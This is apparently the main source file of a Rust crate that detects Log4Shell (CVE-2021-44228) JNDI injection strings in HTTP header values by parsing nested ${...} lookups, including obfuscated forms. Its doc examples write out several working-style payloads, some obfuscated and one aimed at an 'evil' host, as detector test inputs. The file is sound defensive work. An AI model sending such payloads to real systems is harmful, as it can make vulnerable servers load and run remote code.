//! Log4Shell payload detector.
//!
//! Inspects untrusted text (typically HTTP header values) for a
//! Log4j-style `${...}` lookup whose resolved name is `jndi`, the
//! pattern behind CVE-2021-44228. A naive substring search misses the
//! common obfuscations, where the payload hides `jndi` behind nested
//! lookups; this crate parses the substitution syntax into a tree and
//! checks what each lookup's key would resolve to. Lookups are only
//! classified, never evaluated.
//!
//! # Quick start
//!
//! ```
//! use log4shell_detect::looks_like_jndi_injection;
//!
//! assert!(looks_like_jndi_injection("${jndi:ldap://127.0.0.1:12/a}"));
//! assert!(looks_like_jndi_injection("${${lower:j}ndi:ldap://127.0.0.1:12/a}"));
//! assert!(looks_like_jndi_injection(
//!     "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.x.x/p}"
//! ));
//! assert!(!looks_like_jndi_injection("Mozilla/5.0 (X11; Linux x86_64)"));
//! ```
//!
//! The pipeline stages are public for callers that want the
//! intermediate forms:
//!
//! ```
//! use log4shell_detect::{contains_jndi_name, parse, tokenize};
//!
//! let tokens = tokenize("${${lower:j}ndi:ldap://evil/a}");
//! let root = parse(&tokens).unwrap();
//! assert!(contains_jndi_name(&root));
//! ```

// Allow noisy pedantic lints that don't add value for
// a library crate.
#![allow(
    clippy::missing_errors_doc,
    clippy::missing_panics_doc,
    clippy::module_name_repetitions
)]

pub mod ast;
pub mod detector;
pub mod lexer;
pub mod parser;
pub mod scan;
pub mod token;

pub use ast::{Node, render};
pub use detector::contains_jndi_name;
pub use lexer::tokenize;
pub use parser::{MAX_NESTING_DEPTH, ParseError, ParseErrorKind, parse};
pub use scan::{DEFAULT_BLOCK_STATUS, ScanConfig, scan_header_values};
pub use token::{Token, TokenKind};

/// Shortest input worth inspecting; `${jndi:` plus one character.
const MIN_PAYLOAD_LEN: usize = 8;

/// Classify a raw string: does it carry a jndi lookup?
///
/// Layered so that full parsing only runs on strings that are long
/// enough, contain substitution syntax, and are not already an obvious
/// match. An input nested past [`MAX_NESTING_DEPTH`] is reported as a
/// match: over-deep nesting is itself suspicious, and failing closed
/// keeps adversarial input from forcing unbounded recursion.
///
/// Pure and stateless; never panics, for any input.
#[must_use]
pub fn looks_like_jndi_injection(raw: &str) -> bool {
    if raw.len() < MIN_PAYLOAD_LEN {
        return false;
    }

    let lower = raw.to_lowercase();

    if !lower.contains("${") {
        return false;
    }

    // unobfuscated payloads are by far the most common
    if lower.contains("${jndi") {
        return true;
    }

    match parse(&tokenize(&lower)) {
        Ok(root) => contains_jndi_name(&root),
        Err(_) => true,
    }
}
